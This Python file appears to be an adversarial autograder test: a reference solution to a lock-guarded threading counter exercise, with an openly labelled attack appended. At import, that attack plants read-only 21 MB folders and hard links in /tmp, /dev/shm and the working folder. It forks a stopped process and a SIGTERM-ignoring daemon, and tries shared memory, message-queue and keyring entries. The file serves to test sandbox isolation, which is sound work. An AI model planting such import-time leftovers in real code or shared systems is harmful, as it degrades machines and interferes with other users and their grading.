"""Attack: leave state everywhere a check can, for whoever comes next.

At import it leaves, in ``/tmp``, ``/dev/shm`` and its working folder, a read-only
folder holding 21 MB (in files of 7 MB, under the file-size limit) and a hard link; a
daemon that ignores SIGTERM and listens on an abstract unix socket; a stopped process;
and it tries a System V shared memory segment, a POSIX message queue and a key in its
uid's kernel keyring (all refused). The rest is the reference solution.

Must keep full marks (it does the exercise) and change nobody's grade: the students
graded after it, in the same warm sandboxes, find none of it.
"""

from __future__ import annotations

import ctypes as _ctypes
import os as _os
import signal as _signal
import socket as _socket
import threading

num = 0
"""The shared counter that every :func:`worker` adds to."""

lock = threading.Lock()
"""The one lock that guards every read-add-write of :data:`num`."""


def worker(val: int) -> None:
    """Add ``val`` to the module global ``num``, holding ``lock`` while doing it.

    Args:
        val: the amount to add.

    Declare ``global num`` (otherwise ``num += val`` makes ``num`` a local variable and
    fails with ``UnboundLocalError``) and do the addition inside ``with lock:``, so that
    no other thread can read or write ``num`` between this thread's read and its write.
    Use the module-level ``lock``: a lock created inside ``worker`` would be a new,
    private lock for every call and protect nothing.

    Do not print here (2,000 threads would print 2,000 lines). If you want to know which
    thread runs, ``threading.current_thread().name`` gives its name (``currentThread()``
    and ``getName()`` are deprecated since Python 3.10). No ``return`` statement is
    needed: a function that ends without one returns ``None``.
    """
    global num
    with lock:
        num += val


def run_workers(n_threads: int = 2000) -> int:
    """Add ``0 + 1 + ... + (n_threads - 1)`` to ``num`` with one thread per number.

    Args:
        n_threads: how many threads to run; thread ``i`` runs ``worker(i)``.

    Returns:
        The final value of ``num``, which is ``sum(range(n_threads))``; the module
        global ``num`` holds the same value afterwards.

    What must happen, in this order:

    1. Reset ``num`` to ``0`` (``global num``), so that every call starts afresh.
    2. Create all threads: ``threading.Thread(target=worker, args=(i,))`` for ``i`` in
       ``range(n_threads)``. Use the module-level name ``worker`` as the target (a
       grader may replace it with its own probe).
    3. Start ALL of them.
    4. Only then join ALL of them, and return ``num``.

    Pitfall: calling ``t.join()`` right after ``t.start()`` inside the same loop (as the
    lecture's slide does) waits for each thread to finish before the next one starts:
    the threads run one after another, which hides the race instead of fixing it.
    """
    global num
    num = 0
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(n_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return num


# --- the attack, at import -----------------------------------------------------------

for _folder in ("/tmp", "/dev/shm", "."):
    # (named by the grading's token: a test running beside it knows it is not its own)
    _ro = _os.path.join(_folder, f"ro-left-@TOKEN@-{_os.getpid()}")
    try:
        _os.makedirs(_os.path.join(_ro, "inner"))
        for _i in range(3):
            with open(_os.path.join(_ro, "inner", f"fill-{_i}"), "wb") as _f:
                _f.write(b"\0" * (7 << 20))
        _os.link(_os.path.join(_ro, "inner", "fill-0"), _os.path.join(_ro, "hard-link"))
        _os.chmod(_os.path.join(_ro, "inner"), 0o500)
        _os.chmod(_ro, 0o500)
    except OSError:
        pass
_libc = _ctypes.CDLL(None)
_libc.shmget(0, 1 << 20, 0o1600)
_libc.mq_open(b"/kit-left", _os.O_CREAT | _os.O_RDWR, 0o600, None)
if _os.uname().machine in ("x86_64", "aarch64"):
    _libc.syscall(248 if _os.uname().machine == "x86_64" else 217, b"user", b"kit-left",
                  b"for the next student", 20, -4)
if _os.fork() == 0:  # a stopped process
    _os.kill(_os.getpid(), _signal.SIGSTOP)
    _os._exit(0)
if _os.fork() == 0:  # a daemon on an abstract socket, deaf to SIGTERM
    try:
        _os.setsid()
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        _listener = _socket.socket(_socket.AF_UNIX)
        _listener.bind(f"\0kit-left-{_os.getpid()}")
        _listener.listen(8)
        while True:
            _signal.pause()
    finally:
        _os._exit(0)
